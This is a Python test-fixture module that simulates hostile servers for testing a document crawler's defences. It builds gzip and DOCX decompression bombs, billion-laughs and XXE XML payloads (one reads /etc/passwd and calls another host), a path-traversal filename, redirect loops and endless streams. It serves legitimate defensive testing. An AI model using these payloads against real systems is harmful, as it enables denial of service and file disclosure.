"""What hostile servers send: bodies, heads and lists that are too large, too deep, too slow or lies.

All are made piece by piece; the server that sends them stops after 64 MB or five seconds.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from html import escape
from typing import Any

from tests.followed_sources.blind.listening import Listener, Reply, Request
from tests.followed_sources.blind.made_files import strategy_pdf

Maker = Callable[[Listener, Request], Reply]
PDF = {"Content-Type": "application/pdf"}
JSON = {"Content-Type": "application/json"}
XML = {"Content-Type": "application/xml"}
HTML = {"Content-Type": "text/html; charset=utf-8"}
MEDIA = {"oparl": JSON, "sitemap": XML, "feed": XML, "page": HTML}
_MEGABYTE = 2**20
_SPACE = "http://www.sitemaps.org/schemas/sitemap/0.9"


def good_file() -> bytes:
    """Return a harmless PDF."""
    return strategy_pdf("Strategie Auental")


def paper_list(server: Listener, *files: tuple[str, str, str]) -> dict[str, Any]:
    """Return an OParl list with a paper for each file: its title, file name and address."""
    papers = []
    for number, (title, file_name, address) in enumerate(files, start=1):
        dates = {"created": "2026-03-01T08:00:00+00:00", "modified": "2026-03-01T08:00:00+00:00"}
        file = dates | {
            "id": f"{server.base}/file/{number}",
            "type": "https://schema.oparl.org/1.0/File",
            "name": title,
            "fileName": file_name,
            "mimeType": "application/pdf",
            "accessUrl": address,
            "downloadUrl": address,
        }
        paper = dates | {
            "id": f"{server.base}/paper/{number}",
            "type": "https://schema.oparl.org/1.0/Paper",
            "name": title,
            "reference": f"{number}/2026",
            "date": "2026-03-01",
            "paperType": "Vorlage",
            "mainFile": file,
            "auxiliaryFile": [],
        }
        papers.append(paper)
    return {"data": papers, "pagination": {}, "links": {}}


def good_list(server: Listener, kind: str, *addresses: str) -> Reply:
    """Return a well-formed source of a kind that names these files."""
    if kind == "oparl":
        files = [("Strategie Auental", "strategie.pdf", address) for address in addresses]
        return Reply(200, dict(JSON), json.dumps(paper_list(server, *files)).encode())
    names = [escape(address) for address in addresses]
    if kind == "sitemap":
        inner = "".join(f"<url><loc>{name}</loc></url>" for name in names)
        text = f'<urlset xmlns="{_SPACE}">{inner}</urlset>'
    elif kind == "feed":
        inner = "".join(
            f'<item><title>Strategie Auental</title><guid>{name}</guid><enclosure url="{name}" '
            'length="9" type="application/pdf"/></item>'
            for name in names
        )
        text = f'<rss version="2.0"><channel><title>Neues</title>{inner}</channel></rss>'
    else:
        inner = "".join(f'<a href="{name}">Strategie Auental</a> ' for name in names)
        text = f"<!doctype html><title>Strategien</title><body>{inner}</body>"
    return Reply(200, dict(MEDIA[kind]), text.encode())


def redirect(location: str, status: int = 302) -> Maker:
    """Redirect to an address; {base}, {host}, {port}, {victim} and {victim_port} in it are filled in."""

    def make(server: Listener, request: Request) -> Reply:
        netloc = server.base.partition("://")[2]
        host, _, port = netloc.partition(":")
        filled = location.format(
            base=server.base,
            host=host,
            port=port,
            victim=server.stranger,
            victim_port=server.stranger.rpartition(":")[2],
        )
        return Reply(status, {"Location": filled}, b"")

    return make


def redirect_chain(server: Listener, request: Request) -> Reply:
    """Redirect to a new address of the same host, without an end."""
    number = int(request.query.get("n", "0")) + 1
    return Reply(302, {"Location": f"{server.base}{request.path}?n={number}"}, b"")


def names_files(kind: str, *addresses: str) -> Maker:
    """Answer with a well-formed source that names these addresses, filled in as for redirects."""

    def make(server: Listener, request: Request) -> Reply:
        filled = [text.format(base=server.base, victim=server.stranger) for text in addresses]
        return good_list(server, kind, *filled)

    return make


def names_paper(title: str, file_name: str, path: str = "/datei/strategie.pdf") -> Maker:
    """Answer with a list of one paper of this title and file name."""

    def make(server: Listener, request: Request) -> Reply:
        written = paper_list(server, (title, file_name, server.base + path))
        return Reply(200, dict(JSON), json.dumps(written).encode())

    return make


def text(body: str | bytes, headers: dict[str, str], **more: Any) -> Maker:
    """Answer with a text; {base} and {victim} in it are not filled in."""
    data = body.encode() if isinstance(body, str) else body
    return lambda server, request: Reply(200, dict(headers), data, **more)


def endless(headers: dict[str, str], start: bytes = b"", filler: bytes = b" ") -> Maker:
    """Answer without an end."""

    def chunks() -> Iterator[bytes]:
        yield start
        block = filler * (_MEGABYTE // len(filler))
        while True:
            yield block

    return lambda server, request: Reply(200, dict(headers), chunks())


def raw(*parts: bytes, repeat: bytes = b"", times: int = 0) -> Maker:
    """Send these bytes and nothing else, the last of them again and again."""

    def chunks() -> Iterator[bytes]:
        yield from parts
        for _ in range(times):
            yield repeat

    return lambda server, request: Reply(200, {}, chunks(), raw=True)


def drip(head: bytes, part: bytes, seconds: float = 0.2) -> Maker:
    """Send the head, then a part every so often, without an end."""

    def make(server: Listener, request: Request) -> Reply:
        def chunks() -> Iterator[bytes]:
            yield head
            while not server.wait(seconds):
                yield part

        return Reply(200, {}, chunks(), raw=True)

    return make


@cache
def gzip_bomb(start: bytes, filler: bytes, megabytes: int) -> bytes:
    """Return gzip that unpacks to `start` and then so many megabytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    block = filler * (_MEGABYTE // len(filler))
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    again.compress(b"")
    packed = again.compress(block) + again.flush(zlib.Z_FULL_FLUSH)
    return head + packed * megabytes + b"\x03\x00"  # the last block is empty; the sum is missing


def packed_bomb(headers: dict[str, str], start: bytes, twice: bool = False) -> Maker:
    """Answer with gzip as Content-Encoding, of a gigabyte, or packed twice."""

    def make(server: Listener, request: Request) -> Reply:
        body = gzip_bomb(start, b" ", 1024)
        encoding = "gzip"
        if twice:
            packer = zlib.compressobj(9, zlib.DEFLATED, 31)
            body = packer.compress(body) + packer.flush()
            encoding = "gzip, gzip"
        return Reply(200, headers | {"Content-Encoding": encoding}, body)

    return make


@cache
def docx_bomb() -> bytes:
    """Return a Word file whose text unpacks to 200 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as file:
            for _ in range(200):
                file.write(b" " * _MEGABYTE)
    return buffer.getvalue()


def entities(levels: int = 9) -> str:
    """Return a sitemap whose entities unfold to a billion words."""
    lines = ['<!ENTITY a0 "strategie">']
    for level in range(1, levels + 1):
        inner = f"&a{level - 1};" * 10
        lines.append(f'<!ENTITY a{level} "{inner}">')
    return (
        f'<?xml version="1.0"?><!DOCTYPE urlset [{"".join(lines)}]>'
        f'<urlset xmlns="{_SPACE}"><url><loc>&a{levels};</loc></url></urlset>'
    )


def wide_entity() -> str:
    """Return a sitemap that names an entity of 100 KB twenty thousand times."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "{"x" * 100_000}">]>'
        f'<urlset xmlns="{_SPACE}"><url><loc>{"&a;" * 20_000}</loc></url></urlset>'
    )


def external_entity(server: Listener, request: Request) -> Reply:
    """Answer with a sitemap that reads a file of the reader and asks another host."""
    body = (
        f'<?xml version="1.0"?><!DOCTYPE urlset SYSTEM "{server.stranger}/sitemap.dtd" ['
        f'<!ENTITY datei SYSTEM "file:///etc/passwd"><!ENTITY host SYSTEM "{server.stranger}/x">]>'
        f'<urlset xmlns="{_SPACE}"><url><loc>{server.base}/datei/&datei;&host;.pdf</loc></url></urlset>'
    )
    return Reply(200, dict(XML), body.encode())


def many_files(kind: str, count: int) -> Maker:
    """Answer with a source that names so many files."""

    def make(server: Listener, request: Request) -> Reply:
        addresses = [f"{server.base}/datei/{number}.pdf" for number in range(count)]
        return good_list(server, kind, *addresses)

    return make


def endless_pages(server: Listener, request: Request) -> Reply:
    """Answer with a page of a list without papers, and a new next page, up to the 10,000th."""
    page = int(request.query.get("page", "1"))
    links = {"next": f"{server.base}{request.path}?page={page + 1}"} if page < 10_000 else {}
    written = {"data": [], "pagination": {"totalPages": 10_000}, "links": links}
    return Reply(200, dict(JSON), json.dumps(written).encode())


def endless_indexes(server: Listener, request: Request) -> Reply:
    """Answer with an index of sitemaps that names two new indexes."""
    at = request.query.get("n", "1")
    names = [f"{server.base}{request.path}?n={at}{digit}" for digit in "12"]
    inner = "".join(f"<sitemap><loc>{name}</loc></sitemap>" for name in names)
    return Reply(200, dict(XML), f'<sitemapindex xmlns="{_SPACE}">{inner}</sitemapindex>'.encode())


def base_elsewhere(server: Listener, request: Request) -> Reply:
    """Answer with a page whose relative links belong to another host."""
    body = f'<base href="{server.stranger}/"><a href="datei/strategie.pdf">Strategie</a>'
    return Reply(200, dict(HTML), body.encode())


def disposition(server: Listener, request: Request) -> Reply:
    """Answer with a PDF that wants another name."""
    name = 'attachment; filename="../../../../tmp/strategie.pdf"'
    return Reply(200, PDF | {"Content-Disposition": name}, good_file())


def random_bytes(headers: dict[str, str]) -> Maker:
    """Answer with bytes that are nothing, among them some that are not UTF-8."""
    return lambda server, request: Reply(200, dict(headers), b"\xff\xfe\x00" + os.urandom(4096))
